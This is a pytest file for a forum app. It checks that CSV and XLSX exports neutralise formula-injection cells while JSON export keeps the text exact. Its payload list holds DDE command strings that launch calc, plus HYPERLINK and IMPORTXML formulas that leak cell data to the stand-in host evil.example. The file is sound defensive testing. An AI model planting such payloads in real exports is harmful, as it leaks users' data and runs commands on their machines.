"""Cells a spreadsheet would run as a formula are neutralised in CSV and XLSX,
using the Big List of Naughty Strings and our own payloads; JSON stays exact."""

import pytest

from forum.debates.models import Comment, Debate, PollOption
from forum.lib.csvsafe import FORMULA_TRIGGERS, is_formula_like, neutralise, xlsx_text
from tests.security.payloads import blns

from .conftest import formula_cells, parse_csv, parse_json, parse_xlsx, xlsx_rows
from .readback import export_bytes

pytestmark = pytest.mark.django_db

BLNS = blns()
OURS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\n=1+1",
    "\u3000=1+1",  # an ideographic space
    "\u2003\u2009+1",  # an em space and a thin one
    "\u200b=1+1",  # a zero-width space
    "\ufeff@SUM(1)",  # a byte-order mark
    "\uff1d1+1",
    "\uff0b1",
    "'=already quoted",
    "==",
    "=",
]
PAYLOADS = BLNS + OURS


def test_neutralise_quotes_every_trigger_and_nothing_else():
    for trigger in FORMULA_TRIGGERS:
        assert neutralise(trigger + "1") == "'" + trigger + "1"
    for lead in ("\u3000", "\u2003", "\u200b", "\ufeff", " \u200b\u00a0", "\u200e", "\u2061", "\u180e"):
        assert neutralise(lead + "=1") == "'" + lead + "=1"
    assert neutralise("\u3000text") == "\u3000text"
    assert neutralise("1+1") == "1+1"
    assert neutralise("a=b") == "a=b"
    assert neutralise("'=x") == "'=x"  # starts with an apostrophe already: not a formula
    assert neutralise("") == ""
    assert neutralise(-3) == -3  # numbers are typed cells, never evaluated
    assert neutralise(None) is None


def test_xlsx_text_replaces_what_xml_cannot_hold_and_respects_the_cell_limit():
    assert xlsx_text("a\x00b\x1bc") == "a\ufffdb\ufffdc"
    assert xlsx_text("=1") == "'=1"
    long = xlsx_text("x" * 40000)
    assert len(long) == 32767
    assert long.endswith("\u2026")


@pytest.fixture
def naughty(debate):
    """A comment for each payload (the corpus has no NUL, which PostgreSQL refuses)."""
    Comment.objects.bulk_create(
        Comment(debate=debate, body=text, body_html="", status=Comment.Status.PUBLISHED, reasons=[text[:20]])
        for text in PAYLOADS
    )
    option = PollOption.objects.filter(debate=debate).first()
    option.label = '=HYPERLINK("http://evil.example")'
    option.save()
    Debate.objects.filter(pk=debate.pk).update(question="@evil question", title="-1 title")
    debate.refresh_from_db()
    return debate


def _bodies_in_order(debate) -> list[str]:
    return list(Comment.objects.filter(debate=debate).order_by("id").values_list("body", flat=True))


def test_csv_cells_never_start_a_formula(naughty):
    originals = _bodies_in_order(naughty)
    _, data = export_bytes(naughty, "comments", "csv")
    rows = parse_csv(data)

    assert len(rows) == len(originals) == len(PAYLOADS)
    for row, original in zip(rows, originals, strict=True):
        assert row["body"] == ("'" + original if is_formula_like(original) else original)
        for cell in row.values():
            assert not is_formula_like(cell), cell
    _, data = export_bytes(naughty, "results", "csv")
    assert all(not is_formula_like(cell) for row in parse_csv(data) for cell in row.values())


def test_reopened_xlsx_has_no_formula_cell(naughty):
    originals = _bodies_in_order(naughty)
    for kind in ("comments", "results", "timeseries", "audit"):
        _, data = export_bytes(naughty, kind, "xlsx")
        workbook = parse_xlsx(data)

        assert formula_cells(workbook) == [], kind
        for sheet in workbook:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        assert not is_formula_like(cell.value), (kind, sheet.title, cell.coordinate, cell.value)

    _, data = export_bytes(naughty, "comments", "xlsx")
    bodies = [row["body"] for row in xlsx_rows(parse_xlsx(data))]
    # XML reads a carriage return back as a line feed; stored comments never hold one.
    assert bodies == [xlsx_text(o).replace("\r\n", "\n").replace("\r", "\n") if o else None for o in originals]


def test_json_keeps_the_exact_text(naughty):
    originals = _bodies_in_order(naughty)
    _, data = export_bytes(naughty, "comments", "json")
    document = parse_json(data)

    assert [row["body"] for row in document["rows"]] == originals
    assert document["metadata"]["question"] == "@evil question"
